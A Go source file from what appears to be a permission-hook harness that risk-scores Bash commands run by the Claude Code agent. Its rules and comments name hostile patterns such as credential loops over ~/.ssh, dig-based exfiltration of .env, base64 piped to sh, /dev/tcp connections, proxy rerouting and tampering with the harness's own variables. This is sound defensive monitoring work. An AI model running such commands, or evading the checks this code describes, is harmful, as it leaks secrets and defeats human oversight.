package classify

import (
	"os"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"

	"github.com/oath-harness/oath-harness/internal/classify/files"
	"github.com/oath-harness/oath-harness/internal/classify/git"
	"github.com/oath-harness/oath-harness/internal/classify/kernel"
	"github.com/oath-harness/oath-harness/internal/classify/outbound"
	"github.com/oath-harness/oath-harness/internal/classify/person"
	"github.com/oath-harness/oath-harness/internal/classify/runfiles"
	"github.com/oath-harness/oath-harness/internal/classify/self"
	"github.com/oath-harness/oath-harness/internal/classify/shell"
	"github.com/oath-harness/oath-harness/internal/claude"
	"github.com/oath-harness/oath-harness/internal/domain"
	"github.com/oath-harness/oath-harness/internal/risk"
	"github.com/oath-harness/oath-harness/internal/sandbox"
)

func bashTool(c *kernel.Env, r *kernel.Result, ev *claude.Event, cwd string) {
	var in struct {
		Command *string `json:"command"`
	}
	if !kernel.Decode(ev.ToolInput, &in) || in.Command == nil {
		// Fail closed: a command we cannot read is one we cannot judge, and at high trust
		// anything short of critical would be auto-approved.
		r.Add(risk.Critical, kernel.ShellExec, kernel.RuleUnreadableInput, "Bash", "tool_input.command is missing or not a string: it cannot be judged")
		return
	}
	if strings.TrimSpace(*in.Command) == "" {
		r.Add(risk.Low, kernel.ShellExec, kernel.RuleEmptyCommand, "", "nothing to run")
		return
	}
	if bareShell(*in.Command) { // noexec.go
		r.Add(risk.Low, kernel.FileRead, kernel.RuleAllowList, strings.TrimSpace(*in.Command), bareShellWhy)
		return
	}
	bashProgram(c, r, *in.Command, cwd)
	outbound.OutboundProgram(r, *in.Command)
	harnessEnvWrite(c, r, func() string { return *in.Command }, r.Writes, kernel.ShellExec)
	// A credential read is file_read on its own; next to a command that writes, runs or
	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
	other := false
	for _, p := range r.Parts {
		if p.Risk.Value() >= risk.Medium.Value() && p.Domain.Rank() > kernel.FileRead.Rank() {
			other = true
		}
	}
	for i := range r.Parts {
		if other && r.Parts[i].Reason.Rule == kernel.RuleCredentialRead && r.Parts[i].Domain == kernel.FileRead {
			r.Parts[i].Domain = kernel.ShellExec
		}
	}
	if len(r.Parts) == 0 {
		r.Add(risk.Low, kernel.ShellExec, kernel.RuleNoCommand, "", "the program runs no command (comments or assignments only)")
	}
}

// program classifies a shell program: the Bash tool's command, or a string a user extract
// filter took out of another tool's input.
func program(c *kernel.Env, r *kernel.Result, src, cwd string) {
	analyzed(c, r, src, shell.Options{Cwd: cwd, Home: c.Home})
}

// bashProgram classifies the Bash tool's own command, which Claude Code runs in bash: where
// it does not parse, bash's own reading says what runs (cut.go). Other programs (a script, a
// recipe, git's --exec) may run in another shell, sh or dash, and are not cut.
//
// Inside Claude Code's sandbox TMPDIR is the sandbox's own temporary directory (it sets it;
// measured: e2e TestHostFactsSandboxDenyWrite), so $TMPDIR names a known place there.
func bashProgram(c *kernel.Env, r *kernel.Result, src, cwd string) {
	opt := shell.Options{Cwd: cwd, Home: c.Home, Cut: true}
	if r.Confined {
		opt.Env = map[string]string{"TMPDIR": sandbox.SandboxTemp(os.Getenv)}
	}
	analyzed(c, r, src, opt)
}

// analyzed analyses src as opt says and judges it into r; it returns what the analysis saw
// (a pipelined program's commands aside: they were judged as they came).
func analyzed(c *kernel.Env, r *kernel.Result, src string, opt shell.Options) *shell.Program {
	cwd := opt.Cwd
	if !allNames.Load() {
		opt.Names = namesRead
	}
	if !kernel.Pipelined(src) {
		var prog *shell.Program
		if p := r.Budget().Ahead; p != nil && p.Matches(opt) {
			prog = p.Take(src, cwd)
		}
		if prog == nil {
			prog = shell.Analyze(src, opt)
		}
		judgeProgram(c, r, prog, cwd)
		return prog
	}
	// A large program (a script or makefile a write plants, one a runner runs) is parsed and
	// walked on one core while its commands are judged on the other, as they come. The
	// commands are judged into a result of their own, appended after the program's findings,
	// variables and redirections as judgeProgram orders them: the same verdicts, in the same
	// order.
	batches := make(chan []shell.Cmd, 64)
	done := make(chan *shell.Program, 1)
	whole := opt
	opt.Batches = batches
	go func() { done <- shell.Analyze(src, opt) }()
	cmds := r.Sibling()
	var judged [][]shell.Cmd // the batches, as judgeCmd left them (it sets a git command's Dir)
	// The batches waiting are taken at once, for the programs their commands carry to be
	// analysed ahead (kernel/prefetch.go) while the first is judged.
	var ahead *kernel.Prefetcher
	if b := r.Budget(); b.Ahead == nil {
		ahead = kernel.NewPrefetcher(shell.Options{Home: c.Home, Names: opt.Names})
		b.Ahead = ahead
		defer func() { ahead.Stop(); b.Ahead = nil }()
	}
	var waiting [][]shell.Cmd
	open := true
	receive := func(batch []shell.Cmd, ok bool) {
		switch {
		case !ok:
			open = false
		case batch == nil: // the analysis starts again: so does the judgement
			waiting, cmds, judged = nil, r.Sibling(), nil
		default:
			waiting = append(waiting, batch)
			if ahead != nil {
				ahead.Offer(batch, c.Layout.ProjectDir)
			}
		}
	}
	for open || len(waiting) > 0 {
		if len(waiting) == 0 {
			batch, ok := <-batches
			receive(batch, ok)
			continue
		}
	more:
		for open {
			select {
			case batch, ok := <-batches:
				receive(batch, ok)
			default:
				break more
			}
		}
		if len(waiting) == 0 {
			continue
		}
		batch := waiting[0]
		waiting = waiting[1:]
		for i := range batch {
			judgeCmd(c, cmds, &batch[i])
		}
		judged = append(judged, batch)
	}
	prog := <-done
	if setsCommandState(prog) {
		// A proxy or GIT_DIR spelled so that the text did not show it (HTTPS_PROX""Y=…): the
		// program is analysed again, whole, and its commands judged after what the
		// variables say.
		prog = shell.Analyze(src, whole)
		judgeProgram(c, r, prog, cwd)
		return prog
	}
	judgeStructure(c, r, prog, cwd)
	r.Merge(cmds)
	if decodes(judged) { // decodeProgram reads the commands' names and text only
		prog.Cmds = slices.Concat(judged...)
		decodeProgram(c, r, prog)
	}
	return prog
}

// decodes reports a decoder among the commands (decodeProgram has nothing to find without).
func decodes(batches [][]shell.Cmd) bool {
	for _, b := range batches {
		for i := range b {
			if decoderOf(&b[i]) != "" {
				return true
			}
		}
	}
	return false
}

// namesRead says which of a program's variables the judgement reads (judgeStructure,
// envCode, setsCommandState): a name like a secret's, read or set; a proxy, GIT_DIR,
// GIT_WORK_TREE, GIT_CONFIG_KEY_n or a variable that carries code (envTable), set. The shell
// analysis lists only those (shell.Options.Names); FuzzClassify checks that every answer stays
// the same as with all of them.
func namesRead(name string, assign bool) bool {
	if kernel.SecretName(name) {
		return true
	}
	return assign && (proxyVariable(name) || name == "GIT_DIR" || name == "GIT_WORK_TREE" ||
		strings.HasPrefix(name, "GIT_CONFIG_KEY_") || runfiles.EnvRowFor(name) != nil || kernel.ContainerVariable(name) || claudeSwitchVar(name))
}

// allNames lists every variable of a program, for the test that namesRead misses none.
var allNames atomic.Bool

// setsCommandState reports a program assigning a variable that judgeStructure reads before
// any command is judged: a proxy (result.proxy), GIT_DIR or GIT_WORK_TREE (gitElsewhere), a
// container engine or compose project (containerEnv).
func setsCommandState(prog *shell.Program) bool {
	for _, n := range prog.Names {
		if n.Assign && (proxyVariable(n.Name) || n.Name == "GIT_DIR" || n.Name == "GIT_WORK_TREE" || kernel.ContainerVariable(n.Name)) {
			return true
		}
	}
	return false
}

// proxyVariable reports a variable that sends network requests through another machine, or
// may (its name cannot be known statically: export $(echo X)=…).
func proxyVariable(name string) bool {
	if strings.Contains(name, shell.Dyn) {
		return true
	}
	switch strings.ToLower(name) {
	case "http_proxy", "https_proxy", "all_proxy", "ftp_proxy", "socks_proxy":
		return true
	}
	return false
}

// judgeProgram judges what the shell analysis saw of a program that runs in cwd.
func judgeProgram(c *kernel.Env, r *kernel.Result, prog *shell.Program, cwd string) {
	judgeStructure(c, r, prog, cwd)
	for i := range prog.Cmds {
		judgeCmd(c, r, &prog.Cmds[i])
	}
	decodeProgram(c, r, prog)
}

// judgeCmd judges one simple command of a program, and records it as a part.
func judgeCmd(c *kernel.Env, r *kernel.Result, cmd *shell.Cmd) {
	if r.VerdictOnly {
		judgeCommand(c, r, cmd)
		return
	}
	argv := make([]string, len(cmd.Args))
	for j, a := range cmd.Args {
		argv[j] = a.Value
	}
	r.Cmds = append(r.Cmds, argv)
	from, wrote := len(r.Parts), len(r.Writes)
	judgeCommand(c, r, cmd)
	part(r, cmd, argv, from, wrote)
}

// judgeStructure judges what a program is besides its commands: the analysis's findings,
// functions, variables and redirections.
func judgeStructure(c *kernel.Env, r *kernel.Result, prog *shell.Program, cwd string) {
	stops := -1 // the parser's complaint about a syntax error bash stops at (cut.go)
	if prog.Unread != "" && !r.Fragment && cutStops(prog) {
		stops = prog.Cut.Finding
	}
	for i, f := range prog.Findings {
		if i == stops {
			r.Add(risk.Low, kernel.ShellExec, kernel.RuleNotRun, f.Src, "bash refuses line "+strconv.Itoa(prog.Cut.Line)+
				" on ("+prog.Unread+"): it and what follows never run; what comes before it is judged as the program that runs")
			continue
		}
		if f.NameUnknown {
			r.AddUnknown(f.Risk, kernel.ShellExec, f.Rule, f.Src, f.Detail, kernel.Unknown{What: kernel.DynamicName})
			continue
		}
		r.Add(f.Risk, kernel.ShellExec, f.Rule, f.Src, f.Detail)
	}
	if prog.Unread != "" && !r.Fragment && stops < 0 {
		r.NotReadNow("", "the shell parser cannot read the program past an error ("+prog.Unread+"), and bash may run what follows")
	}
	for _, fn := range prog.Funcs {
		if fn.Forks {
			r.Add(risk.Critical, kernel.ShellExec, kernel.RuleForkBomb, fn.Src, "the function "+fn.Name+" starts copies of itself")
		}
	}
	for _, n := range prog.Names {
		noteClaudeEnv(r, n) // nested_claude.go
		if n.Assign && proxyVariable(n.Name) {
			r.Proxy = true
			r.Add(risk.High, kernel.ShellExec, kernel.RuleProxyVariable, n.Src, "sets "+strings.ReplaceAll(n.Name, shell.Dyn, "$(…)")+": network requests go through another machine")
		}
		if n.Name == shell.Dyn && !n.Assign { // ${!v}, v unknown (a loop over compgen -e)
			r.Add(risk.High, kernel.ShellExec, kernel.RuleEnvironmentDump, n.Src, "reads a variable whose name cannot be known statically: it may be any of the environment's secrets")
			continue
		}
		if kernel.SecretName(n.Name) {
			verb := "reads"
			if n.Assign {
				verb = "sets"
			}
			r.Add(risk.Critical, kernel.ShellExec, kernel.RuleSecretVariable, n.Src, verb+" the variable "+n.Name+", named like a secret (API_KEY, SECRET, TOKEN, PASSWORD)")
		}
	}
	runfiles.EnvCode(c, r, prog.Names, cwd) // runfiles/runenv.go: variables that carry code
	// for f in ~/.ssh/*; do cat "$f"; done: a loop over credentials hands them to its commands.
	for _, l := range prog.Loops {
		if l.Known && (strings.Contains(l.Value, "/") || strings.HasPrefix(l.Value, ".")) {
			why := kernel.Credential(l.Value)
			if why == "" && l.Glob {
				why = kernel.CredentialGlob(l.Value)
			}
			if why != "" {
				r.Add(risk.High, kernel.FileRead, kernel.RuleCredentialRead, l.Value, why+", which a loop goes over")
				break
			}
		}
	}
	for _, rd := range prog.Redirs {
		ts := kernel.Resolve(rd.Target, rd.Dir, false)
		for _, t := range ts {
			if t.Known && devNet(t.Path) != "" {
				// bash opens a connection for /dev/tcp|udp/HOST/PORT, reading as much as
				// writing: data comes in from, or goes out to, another machine.
				if h := devNet(t.Path); !kernel.LocalHost(h) {
					r.Add(risk.Critical, kernel.ShellExec, kernel.RuleNetworkExternal, rd.Src, "a redirection to "+t.Path+" opens a connection to "+h+": external communication, blocked at any trust")
				} else {
					r.Add(risk.Medium, kernel.ShellExec, kernel.RuleNetworkLocal, rd.Src, "a redirection to "+t.Path+" opens a local connection")
				}
				continue
			}
			if rd.Write {
				if t.Known && kernel.HarmlessDevice(t.Path) {
					continue
				}
				if t.Known {
					r.Writes = append(r.Writes, t.Path)
					if rd.Text != nil { // runfiles/planted.go: cat > Makefile <<'EOF' … plants code too
						runfiles.PlantedText(c, r, nil, "the shell's "+rd.Op, rd.Text.Value, rd.Op == ">>" || rd.Op == "&>>", t.Path, kernel.ShellExec)
					} else if len(rd.From) > 0 && runfiles.PlantRowFor(t.Path) != nil { // cat FILE >> .git/config
						var from []kernel.Target
						for _, f := range rd.From {
							from = append(from, kernel.Resolve(f, rd.Dir, false)...)
						}
						c.PlantCopy(r, "cat with the shell's "+rd.Op, from, t.Path, rd.Op == ">>" || rd.Op == "&>>")
					} else if runfiles.QuietPlant(t.Path) { // base64 -d <<< … > .git/hooks/pre-commit
						r.NotRead("the shell's " + rd.Op + " puts into " + t.Path + ", which runs later, what " + kernel.ShortCmd(rd.Src) + " writes, which cannot be read now")
					} else if strings.Contains(rd.Op, ">>") { // gen >> Makefile: added to code run later, not read (kernel.Rewrite)
						c.UnreadPlant(r, t, "the shell's "+rd.Op+" adds what "+kernel.ShortCmd(rd.Src)+" writes to", "")
					}
				}
				c.JudgeWrite(r, t, kernel.ShellExec, rd.Src)
				if t.Known && !strings.HasPrefix(rd.Op, ">>") && !strings.HasPrefix(rd.Op, "&>>") {
					r.AddLoss(kernel.Loss{Path: t.Path, Glob: t.Glob, How: "overwrites", Cmd: rd.Src})
				}
				r.Add(risk.Medium, kernel.ShellExec, kernel.RuleRedirectWrite, rd.Src, "redirects output into a file ("+rd.Op+")")
				continue
			}
			if t.Known {
				r.Reads = append(r.Reads, t.Path)
				if why := kernel.Credential(t.Path); why != "" {
					r.Add(risk.High, kernel.ShellExec, kernel.RuleCredentialRead, rd.Src, why)
				}
				if kernel.ProcEnviron(t.Path) {
					r.Add(risk.High, kernel.ShellExec, kernel.RuleEnvironmentDump, rd.Src, "reads "+t.Path+": the environment of a process, secrets included")
				}
			}
		}
	}
}

// envMarkers are how inline code reads one environment variable by name.
var envMarkers = []string{"ENVIRON[", "$ENV{", "os.environ[", "os.environ.get(", "os.getenv(", "getenv(", "process.env.", "process.env[", "ENV[", "ENV.fetch(", "Deno.env.get("}

// envInCode judges inline code reading the environment (awk 'BEGIN{print ENVIRON["API_KEY"]}'):
// a secret-named variable read by name is `echo $API_KEY`; awk's for (k in ENVIRON) and
// perl's %ENV walk every variable, like env.
func envInCode(x *kernel.Command, w shell.Word) {
	code := w.Value
	if !strings.Contains(code, "ENV") && !strings.Contains(code, "env") {
		return
	}
	for _, m := range envMarkers {
		for rest, n := code, 0; n < 64; n++ {
			i := strings.Index(rest, m)
			if i < 0 {
				break
			}
			rest = rest[i+len(m):]
			name := strings.TrimLeft(rest, "\"' ")
			end := strings.IndexFunc(name, func(r rune) bool {
				return !(r == '_' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9')
			})
			if end >= 0 {
				name = name[:end]
			}
			if name != "" && kernel.SecretName(name) {
				x.Add(risk.Critical, kernel.ShellExec, kernel.RuleSecretVariable, x.Name+" reads the variable "+name+", named like a secret (API_KEY, SECRET, TOKEN, PASSWORD)")
				return
			}
		}
	}
	if strings.Contains(code, "in ENVIRON") || strings.Contains(code, "%ENV") {
		x.Add(risk.High, kernel.ShellExec, kernel.RuleEnvironmentDump, x.Name+" walks every environment variable, secrets included")
	}
}

// judgeCommand judges one simple command.
func judgeCommand(c *kernel.Env, r *kernel.Result, cmd *shell.Cmd) {
	x := &kernel.Command{Env: c, Call: r, Cmd: cmd, Name: cmd.Name(), Args: cmd.Args[1:], Src: cmd.Src}
	for _, v := range cmd.Via {
		if shell.IsPrivileged(strings.Fields(v)[0]) {
			x.Add(risk.High, kernel.ShellExec, kernel.RulePrivileged, "runs as another user ("+v+")")
		}
	}
	if x.Name == "" {
		x.AddUnknown(risk.Critical, kernel.ShellExec, kernel.RuleDynamicCommand, "the command name cannot be known statically: it could be any program", kernel.Unknown{What: kernel.DynamicName})
		return
	}
	decodedName(x)
	if self.SelfInvocation(x) || x.RunsHarnessCode() || nestedClaude(x) {
		return
	}
	person.PersonCommand(x)
	if w := kernel.ViaLater(cmd.Via); w != "" {
		x.Add(risk.Critical, kernel.ShellExec, kernel.RuleScheduledCode, w+" runs "+x.Name+" as a unit of its own, outside the hooks: what it runs later is never judged")
	}
	if cmd.Carrier {
		x.Add(risk.Low, kernel.FileRead, kernel.RuleCarrier, x.Name+" runs a second program, judged on its own commands")
		return
	}
	if cmd.StdinArgs && len(cmd.Args) == 1 && x.Name == "echo" {
		x.Add(risk.Low, kernel.FileRead, kernel.RuleAllowList, "xargs with no command prints its input")
		return
	}
	// Arguments of any command: credentials and payment URLs are judged wherever they appear,
	// but for the name a copy writes (cp .env.example .env.local reads no secret).
	dest, copies := files.CopyDest(x)
	for _, a := range x.Args {
		if !a.Known {
			// ~user/.ssh/id_rsa, "$D/.aws/credentials": the known tail still names a credential.
			if i := strings.LastIndex(a.Value, shell.Dyn); i >= 0 && strings.HasPrefix(a.Value[i+len(shell.Dyn):], "/") {
				if why := kernel.Credential(a.Value[i+len(shell.Dyn):]); why != "" {
					x.Add(risk.High, kernel.FileRead, kernel.RuleCredentialRead, why+" ("+a.Value[i+len(shell.Dyn):]+" under a directory that cannot be known statically)")
				}
			}
			continue
		}
		if copies && a.Value == dest {
			continue
		}
		v := a.Value
		if i := strings.IndexByte(v, '='); i > 0 && strings.HasPrefix(v, "-") {
			v = v[i+1:]
		}
		if strings.Contains(v, "/") || strings.HasPrefix(v, ".") || strings.HasPrefix(v, "id_") {
			if why := kernel.Credential(v); why != "" && !strings.Contains(v, "://") {
				x.Add(risk.High, kernel.FileRead, kernel.RuleCredentialRead, why)
			}
			if kernel.ProcEnviron(v) {
				x.Add(risk.High, kernel.ShellExec, kernel.RuleEnvironmentDump, x.Name+" is given "+v+": the environment of a process, secrets included")
			}
		}
		if strings.Contains(v, "://") {
			if why := git.TradeURL(v); why != "" {
				x.Add(risk.Critical, kernel.ShellExec, kernel.RuleTradeURL, why)
			}
		}
	}
	recursiveSearch(x) // credsearch.go: what grep -r, rg, ag would print
	encodedCommand(x)
	outbound.Outbound(x)
	if cmd.Code == nil && noExecShell(cmd) { // noexec.go
		judgeNoExec(x)
		return
	}
	if cmd.Stdin {
		switch cmd.Input {
		case "pipe":
			// An unknown program (base64 -d | sh): as dangerous as an unknown command name.
			x.Add(risk.Critical, kernel.ShellExec, kernel.RuleProgramFromStdin, x.Name+" runs a program piped into it, which cannot be known statically")
		case "file":
			x.Add(risk.Medium, kernel.ShellExec, kernel.RuleScript, x.Name+" runs a script file")
			runfiles.StdinScript(x)
		case "catfile":
			x.Add(risk.High, kernel.ShellExec, kernel.RuleProgramFromStdin, x.Name+" runs a script file piped into it (issue 2: a pipe into a shell is at least high)")
			runfiles.StdinScript(x)
		default:
			// { bash; } < FILE, exec < FILE; sh, a loop's redirection: the program is there,
			// but where is not followed here.
			x.Add(risk.High, kernel.ShellExec, kernel.RuleProgramFromStdin, x.Name+" reads its program from stdin: it cannot be analysed")
			x.Call.NotReadNow(x.Src, kernel.ShortCmd(x.Src)+": "+x.Name+" reads its program from stdin, which the harness does not see")
		}
		return
	}
	if cmd.Code != nil {
		envInCode(x, *cmd.Code)
		decodedCode(x, *cmd.Code)
		x.Env.InlineCode(*x, *cmd.Code)
		return
	}
	from := len(r.Parts)
	judge(x)
	pathFloor(x, from)
	runfiles.RunnerCode(x) // runfiles/runners.go: what it runs from files
}

// harnessEnvWrite: text that sets a variable the hooks trust (OATH_BIN …) written into a file
// a shell or direnv loads is critical, whatever the file (the well-known ones are protected
// outright; this catches ~/.config/fish/functions/x.fish, a project's .envrc, /etc/*rc …).
// text is made only for a startup file: a Write's can be a 100 kB script, and few files are.
func harnessEnvWrite(c *kernel.Env, r *kernel.Result, text func() string, writes []string, domain domain.Domain) {
	for _, w := range writes {
		if self.StartupFile(w) {
			if !self.SetsHarnessEnv(text()) {
				return
			}
			r.Add(risk.Critical, domain, kernel.RuleSelfProtection, w, "writes "+w+", which a shell or direnv loads, with a setting of OATH_BIN, OATH_HOME, OATH_HOOKS_DIR or CLAUDE_PROJECT_DIR: the hooks trust those to find the harness")
			return
		}
	}
}

// devNet returns the host of bash's /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT, or "".
func devNet(p string) string {
	for _, pre := range []string{"/dev/tcp/", "/dev/udp/"} {
		if rest, ok := strings.CutPrefix(p, pre); ok {
			h, _, _ := strings.Cut(rest, "/")
			if h == "" {
				return "(no host)"
			}
			return h
		}
	}
	return ""
}
